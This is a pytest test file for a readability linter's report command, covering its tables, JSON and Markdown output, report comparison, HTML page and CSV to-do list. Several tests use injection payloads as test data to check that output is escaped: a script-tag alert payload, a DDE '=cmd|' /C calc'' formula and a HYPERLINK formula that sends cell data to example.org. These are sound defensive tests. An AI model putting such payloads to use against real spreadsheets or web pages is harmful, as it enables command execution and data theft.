"""readlint report: terminal table, JSON metrics, Markdown summary."""

from __future__ import annotations

import json
import os
import string
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import SEED
from report_page_data import view_of

from readlint.report.model import percentile

EASY = "We eat food. We go home. The sun is hot. I like my dog. " * 12
HARD = ("Comprehensive immunohistochemical characterization facilitates individualized "
        "therapeutic recommendations. ") * 16
LONG = "Word " + " ".join(["word"] * 24) + " end."


@pytest.fixture
def corpus(write):
    write("easy.md", f"---\naudienceLevel: patient\n---\n# Easy\n\n{EASY}\n")
    write("hard.md", f"---\naudienceLevel: patient\n---\n# Hard\n\n{HARD}\n\n{LONG}\n")
    write("pro.md", f"---\naudienceLevel: professional\n---\n# Pro\n\n{HARD}\n")
    write("short.md", "---\naudienceLevel: patient\n---\n# Short\n\nImmunohistochemistry.\n")


def test_terminal_table_worst_first_and_within_100_columns(run, corpus):
    result = run("report", ".")
    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    assert all(len(line) <= 100 for line in lines)
    rows = [line.split()[0] for line in lines[2:6]]
    assert rows == ["pro.md", "hard.md", "short.md", "easy.md"]  # furthest above target first
    hard = next(line for line in lines if line.startswith("hard.md"))
    assert "▲" in hard and hard.split()[1] == "patient"
    assert "2 of 4 documents read above their audience's target grade (1 not graded)." \
        in result.stdout
    assert "professional" in result.stdout  # totals per rule set
    assert lines[-1].endswith("add --html report.html")


def test_a_grade_past_its_target_within_its_uncertainty_is_explained(run, write):
    # fourteen easy sentences and five hard ones: grade 8.4 against 8, too few sentences
    # for check to be sure, so no ▲, and a line says why
    easy = "We eat good food at home each day. " * 14
    hard = ("Comprehensive characterization facilitates individualized therapeutic "
            "recommendations for patients. ") * 5
    write("p.md", f"---\naudienceLevel: patient\n---\n# Food\n\n{easy}{hard}\n")
    out = run("report", ".").stdout
    row = next(line for line in out.splitlines() if line.startswith("p.md"))
    assert "▲" not in row and float(row.split()[3]) > 8
    assert "A grade past its target without ▲ is within its uncertainty" in out
    assert run("check", ".", "--select", "reading-grade").exit_code == 0


def test_top_limits_rows(run, corpus):
    result = run("report", ".", "--top", "1")
    assert "… and 3 more documents" in result.stdout


def test_json_has_every_metric_under_stable_names(run, corpus):
    data = json.loads(run("report", ".", "--format", "json", "--select",
                          "reading-grade,long-sentence").stdout)
    assert set(data) == {"version", "documents", "totals", "errors", "todo"}
    docs = {d["path"]: d for d in data["documents"]}
    assert set(docs) == {"easy.md", "hard.md", "pro.md", "short.md"}
    hard = docs["hard.md"]
    for key in ("words", "sentences", "syllables", "polysyllables", "letters",
                "difficult_words", "flesch_kincaid_grade", "flesch_reading_ease", "smog_index",
                "coleman_liau_index", "automated_readability_index", "dale_chall_score",
                "dale_chall_grade", "grade", "grade_formulas", "grade_target", "over_target",
                "graded", "long_sentences", "undefined_terms", "missing_links", "problems"):
        assert key in hard, key
    assert hard["sentences"] == 18  # heading, 16 sentences, the long one
    assert hard["grade_target"] == 8 and hard["over_target"] is True
    assert hard["grade_formulas"] == ["flesch_kincaid_grade"]
    assert hard["long_sentences"] == 1
    assert hard["problems"] == {"error": 0, "warning": 2, "info": 0}
    assert docs["pro.md"]["grade_target"] == 14
    assert docs["short.md"]["graded"] is False and docs["short.md"]["over_target"] is False
    totals = data["totals"]
    assert totals["documents"] == 4 and totals["over_target"] == 2
    patient = next(a for a in totals["by_audience"] if a["rule_set"] == "patient")
    assert patient["documents"] == 2  # the short one is not graded


def test_json_metrics_match_the_reading_grade_rule(run):
    data = json.loads(run("report", str(SEED), "--format", "json").stdout)
    (doc,) = data["documents"]
    assert (doc["sentences"], doc["words"]) == (18, 421)
    # the grade is the one reading-grade judges the page by: the writer's own words (the
    # seed page quotes a list of drug names and study titles), not all its prose
    check = run("check", str(SEED), "--select", "reading-grade")
    assert f"is {doc['flesch_kincaid_grade']:.1f} (Flesch-Kincaid), {doc['grade']:.1f} in the " \
        "writer's own words" in check.stdout
    assert doc["over_target"] and "RL101" in check.stdout


def test_report_and_check_agree_on_which_pages_read_above_the_target(run, corpus):
    data = json.loads(run("report", ".", "--format", "json").stdout)
    over = {d["path"] for d in data["documents"] if d["over_target"]}
    check = run("check", ".", "--select", "reading-grade,audience-mismatch")
    flagged = {line.split(":")[0] for line in check.stdout.splitlines() if ": RL" in line}
    assert over == flagged and over


def test_markdown_summary_is_short(run, corpus):
    out = run("report", ".", "--format", "markdown").stdout
    assert out.startswith("### Readability report")
    assert "| `hard.md` |" in out and "⚠️" in out
    assert len(out.splitlines()) < 25
    # its marks are explained, as the text report explains its own: an ungraded page's
    # grade is marked, not shown as a grade like the others
    assert "| `short.md` | " in out and \
        out.split("| `short.md` | ")[1].split(" |")[0].endswith("\\*")
    assert "\\* not graded (too few words of its own" in out
    assert "⚠️ above its target grade" in out


def test_sort_by_path(run, corpus):
    lines = run("report", ".", "--sort", "path").stdout.splitlines()
    assert [line.split()[0] for line in lines[2:6]] == ["easy.md", "hard.md", "pro.md",
                                                       "short.md"]


def _many(write, n: int) -> None:
    for i in range(n):
        write(f"doc{i:02d}.md", f"---\naudienceLevel: patient\n---\n# Doc {i}\n\n{EASY}\n")


def test_no_progress_bar_when_stderr_is_not_a_terminal(run, write):
    _many(write, 25)  # enough for the bar, were stderr a terminal
    result = run("report", ".")
    assert result.exit_code == 0 and result.stderr == ""


def _stderr_on_a_terminal(folder) -> str:
    """What `readlint report` writes to standard error when that is a terminal."""
    main, child = os.openpty()
    try:
        subprocess.run([sys.executable, "-m", "readlint", "report", "."], cwd=folder,
                       stdout=subprocess.DEVNULL, stderr=child, timeout=120, check=False)
        os.close(child)
        out = b""
        while True:
            try:
                chunk = os.read(main, 65536)
            except OSError:
                break
            if not chunk:
                break
            out += chunk
    finally:
        os.close(main)
    return out.decode("utf-8", "replace")


def test_progress_bar_on_a_terminal_only_for_more_than_20_files(write, tmp_path):
    _many(write, 4)
    assert "Checking" not in _stderr_on_a_terminal(tmp_path)
    _many(write, 25)
    assert "Checking" in _stderr_on_a_terminal(tmp_path)


def test_unreadable_file_is_listed_and_exit_code_2(run, corpus, write):
    write("bad.md", b"\xff\xfe\x00binary")
    result = run("report", ".")
    assert result.exit_code == 2
    assert "readlint: bad.md: looks like a binary file" in result.stderr
    assert "1 file could not be read" in result.stdout


def test_percentile_nearest_rank():
    assert percentile([1, 2, 3, 4, 5, 6, 7, 8, 9, 10], 0.9) == 9
    assert percentile([5.0], 0.9) == 5.0
    assert percentile([], 0.9) == 0.0


def test_html_page_is_self_contained_and_escapes_document_text(run, write):
    write("a<script>.md", "---\naudienceLevel: patient\n---\n# T\n\nSee &lt;/script&gt;"
                          "&lt;script&gt;alert(1)&lt;/script&gt; and [a link]"
                          "(https://example.org/x).\n")
    result = run("report", ".", "--html", "out.html")
    assert result.exit_code == 0
    with open("out.html", encoding="utf-8") as fh:
        page = fh.read()
    # Data blocks (the table's, the table of packed views, the packed views) and the page's
    # own script only.
    scripts = page.count("<script")
    assert page.count('<script type="application/json" id="') == 2
    assert page.count('<script type="application/octet-stream" id="chunk-') == scripts - 3
    assert "<script src" not in page and "<link" not in page and "url(http" not in page
    assert "@import" not in page
    data = page.split('<script type="application/json" id="data">')[1].split("</script>")[0]
    assert "<" not in data and "a\\u003cscript\\u003e.md" in data  # names cannot escape
    packed = page.split('id="chunk-0">')[1].split("</script>")[0]
    assert set(packed) <= set(string.ascii_letters + string.digits + "+/=")  # base64
    view = view_of(page, "a<script>.md")  # packed: no text of it stands in the page
    assert "</script><script>alert(1)</script>" in view["blocks"][1][3]
    assert "example.org" not in page and "example.org" not in json.dumps(view)


def test_compare_with_an_earlier_report_per_document_and_audience(run, corpus, write):
    saved = run("report", ".", "--format", "json").stdout
    write("old.json", saved)
    write("hard.md", f"---\naudienceLevel: patient\n---\n# Hard\n\n{EASY}\n")  # made easy
    write("easy.md", f"---\naudienceLevel: patient\n---\n# Easy\n\n{EASY}\n\n{HARD}\n")
    write("new.md", f"---\naudienceLevel: patient\n---\n# New\n\n{EASY}\n")
    (write("short.md", "x")).unlink()
    text = run("report", ".", "--compare", "old.json").stdout
    assert "Since old.json: 1 better, 1 worse, 1 the same, 1 new, 1 no longer there." in text
    worse = text.split("Harder to read, or more problems:\n")[1].splitlines()[0]
    assert worse.split()[0] == "easy.md" and "→" in worse
    better = text.split("Easier to read, or fewer problems:\n")[1].splitlines()[0]
    assert better.split()[0] == "hard.md"
    patient = next(line for line in text.splitlines() if line.startswith("patient ") and "→" in
                   line)
    assert patient.split()[1:4] == ["2", "→", "3"]  # graded patient documents then and now
    data = json.loads(run("report", ".", "--compare", "old.json", "--format", "json").stdout)
    assert data["since"]["counts"] == {"better": 1, "worse": 1, "same": 1, "new": 1, "gone": 1}
    changed = {d["path"]: d["status"] for d in data["since"]["documents"]}
    assert changed == {"easy.md": "worse", "hard.md": "better", "new.md": "new",
                       "short.md": "gone"}
    markdown = run("report", ".", "--compare", "old.json", "--format", "markdown").stdout
    assert "| `easy.md` | worse |" in markdown and "| `hard.md` | better |" in markdown
    assert run("report", ".", "--compare", "old.json", "--html", "r.html").exit_code == 0
    page = Path("r.html").read_text(encoding="utf-8")
    assert "Since the last report" in page and 'id="status"' in page


@pytest.mark.parametrize("content, message", [
    ("{not json", "old.json:1: this is not JSON"),
    ('{"documents": 3}', "old.json: this is not a readlint report"),
    (b"\xff\xfe\x00binary", "old.json: cannot be read"),
])
def test_compare_with_a_file_that_is_not_a_report_is_one_line(run, corpus, write, content,
                                                              message):
    write("old.json", content)
    result = run("report", ".", "--compare", "old.json")
    assert result.exit_code == 2
    assert result.stderr.startswith(f"readlint: error: {message}")
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr


def test_compare_with_a_missing_file(run, corpus):
    result = run("report", ".", "--compare", "nowhere.json")
    assert result.exit_code == 2
    assert "nowhere.json: no such file" in result.stderr


TODO_PAGE = ("---\naudienceLevel: patient\ntitle: Cancer care\nlanguage: en\n---\n# T\n\n"
             "Some people need a pancreaticoduodenectomy. Your doctor may talk about "
             "neutropenia with you. We eat food. We go home.\n")


def test_todo_list_as_csv_with_pages_and_glossary_candidates(run, write):
    import csv
    for name in ("a.md", "b.md", "sub/c.md"):
        write(name, TODO_PAGE)
    write("d.md", TODO_PAGE.replace("pancreaticoduodenectomy", "sandwich"))
    result = run("report", ".", "--todo", "todo.csv")
    assert result.exit_code == 0
    assert "wrote the to-do list (2 terms) to todo.csv" in result.stderr
    with open("todo.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    by_term = {r["term"]: r for r in rows}
    assert list(rows[0]) == ["term", "problem", "documents", "in_glossary", "what_to_do", "pages"]
    assert by_term["neutropenia"]["documents"] == "4"  # the most used comes first
    assert rows[0]["term"] == "neutropenia"
    assert by_term["neutropenia"]["problem"] == "not linked"
    jargon = by_term["pancreaticoduodenectomy"]
    assert (jargon["problem"], jargon["documents"], jargon["in_glossary"]) == \
        ("not explained", "3", "no")
    assert jargon["pages"].split(" ; ") == ["a.md", "b.md", "sub/c.md"]
    assert "add it to the glossary" in jargon["what_to_do"]
    text = result.stdout
    assert "pancreaticoduodenectomy (3, not in a glossary)" in text
    assert "neutropenia (4)" in text
    assert run("report", ".", "--html", "r.html").exit_code == 0
    page = Path("r.html").read_text(encoding="utf-8")
    assert page.count("1 term in all:") == 2 and "1 terms" not in page
    assert "<td>no: add it?</td><td class=\"pages\">a.md, b.md, sub/c.md</td>" in page


def test_audience_column_names_the_rule_set_used_when_the_page_gives_none(run, write):
    write(".readlint.yaml", "per_path:\n  - paths: ['pro/*']\n    audience: professional\n")
    write("pro/a.md", f"---\ntitle: A\n---\n# A\n\n{HARD}\n")
    write("b.md", f"---\ntitle: B\n---\n# B\n\n{HARD}\n")
    result = run("report", ".")
    rows = {line.split()[0]: line.split()[1] for line in result.stdout.splitlines()
            if line.endswith(tuple("0123456789")) and ".md" in line.split()[0]}
    assert rows == {"pro/a.md": "(professional)", "b.md": "(patient)"}
    assert "(name): no audienceLevel in the front matter; checked with this rule set" in \
        result.stdout


def test_no_html_hint_once_the_page_is_written(run, corpus):
    assert "add --html" in run("report", ".").stdout
    result = run("report", ".", "--html", "r.html")
    assert "add --html" not in result.stdout
    assert "wrote the HTML report to r.html" in result.stderr


def test_html_view_marks_the_hardest_sentences_by_their_difficulty_score(run, write):
    hard = ("Comprehensive immunohistochemical characterization facilitates individualized "
            "therapeutic recommendations")
    table = "Hypertonia 90% Incoordination 90% Nystagmus 50% Dysarthria 50% Ataxia 7.5% Tremor."
    write("a.md", f"---\naudienceLevel: patient\ntitle: A\nlanguage: en\n---\n# {hard}\n\n"
                  f"![A drawing of a cell.](cell.png)\n\n{hard}.\n\n{table}\n\n"
                  f"- {hard}.\n- Radiation therapy\n- {hard}\n\n{EASY}\n")
    assert run("report", ".", "--html", "r.html").exit_code == 0
    page = Path("r.html").read_text(encoding="utf-8")
    view = view_of(page, "a.md")
    # Only the sentences the page marks are listed; the others are plain text. A marked
    # sentence: [start, end, words, long-sentence problem, place among the hardest, score,
    # reasons].
    blocks = [(b[0], b[3][:14], [s[4:6] for s in b[4]]) for b in view["blocks"]]
    assert blocks[:7] == [
        ("heading", "Comprehensive ", []),  # a heading is not a sentence to rewrite
        ("paragraph", "Comprehensive ", [[1, 83]]),  # the hardest, ties in page order
        ("paragraph", "Hypertonia 90%", []),  # a table run into the text: its fix is layout
        ("list_item", "Comprehensive ", [[2, 83]]),
        ("list_item", "Radiation ther", []),  # plain enough: not among the hardest
        ("list_item", "Comprehensive ", [[3, 83]]),
        ("paragraph", "We eat food. W", []),
    ]
    reasons = view["blocks"][1][4][0][6]
    assert reasons[0].startswith("7 of its 7 words are long (\"Comprehensive\"")
    # The same sentences, scores and reasons as the JSON report gives.
    (doc,) = json.loads(run("report", ".", "--format", "json").stdout)["documents"]
    assert [(h["line"], round(h["score"]), h["reasons"]) for h in doc["hardest_sentences"]] \
        == [(10, 83, reasons), (14, 83, reasons), (16, 83, reasons)]


def test_the_command_line_offers_every_report_order():
    from readlint.cli import REPORT_ORDERS
    from readlint.report.model import SORT_KEYS

    assert list(REPORT_ORDERS) == sorted(SORT_KEYS)


def test_compare_page_when_nothing_was_graded_names_documents_from_the_root(run, write):
    write("pages/a.md", "---\naudienceLevel: patient\n---\n# A\n\nWe eat food.\n")
    write("pages/b.md", "---\naudienceLevel: patient\n---\n# B\n\nWe go home.\n")
    write("old.json", run("report", "pages", "--format", "json").stdout)
    write("pages/b.md", "---\naudienceLevel: patient\n---\n# B\n\nWe go home. Immunohistochemistry"
                        " characterization facilitates individualized recommendations.\n")
    assert run("report", "pages", "--compare", "old.json", "--html", "r.html").exit_code == 0
    page = Path("r.html").read_text(encoding="utf-8")
    since = page.split('id="since-title"')[1].split("</section>")[0]
    assert "No document was long enough to grade, then or now." in since
    assert "<table" not in since
    assert "<li><code>b.md</code>: grade - → -, problems" in since  # from pages/, the root


FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
            '=HYPERLINK("http://example.org/?"&A1,"Click")', "=cmd|' /C calc'!A0", "＝1+1"]


@pytest.mark.parametrize("name", ["=1+1.md", "+1+1.md", "-1+1.md", "@SUM(1+1).md",
                                  " =1+1.md", "=cmd|' -C calc'!A0.md"])
def test_todo_csv_page_names_never_become_formulas(run, write, name):
    import csv
    write(name, TODO_PAGE)
    write("z.md", TODO_PAGE)
    assert run("report", ".", "--todo", "todo.csv").exit_code == 0
    raw = Path("todo.csv").read_text(encoding="utf-8")
    with open("todo.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [row[0] for row in rows[1:]] == ["pancreaticoduodenectomy", "neutropenia"]
    for row in rows[1:]:
        assert row[5] == f"'{name} ; z.md"  # the same text, marked as text
    # every cell is quoted, so a spreadsheet splitting at ";" or spaces keeps it whole
    assert all(line.startswith('"') and line.endswith('"') for line in raw.splitlines())


def test_todo_csv_terms_that_would_be_formulas_are_text(tmp_path):
    import csv

    from readlint.report.model import Report, TodoTerm
    from readlint.report.todo import write_csv

    report = Report([], [], [], [], todo=[TodoTerm(term, "unlinked", 1, [term + ".md"])
                                          for term in FORMULAS + ["plain", "a=b", "e-mail"]])
    with (tmp_path / "todo.csv").open("w", encoding="utf-8", newline="") as fh:
        write_csv(report, fh)
    with (tmp_path / "todo.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    assert [row[0] for row in rows] == ["'" + term for term in FORMULAS] + \
        ["plain", "a=b", "e-mail"]  # the same text; only those that could run are marked
    assert [row[5] for row in rows[:len(FORMULAS)]] == ["'" + term + ".md" for term in FORMULAS]
    assert {row[2] for row in rows} == {"1"}
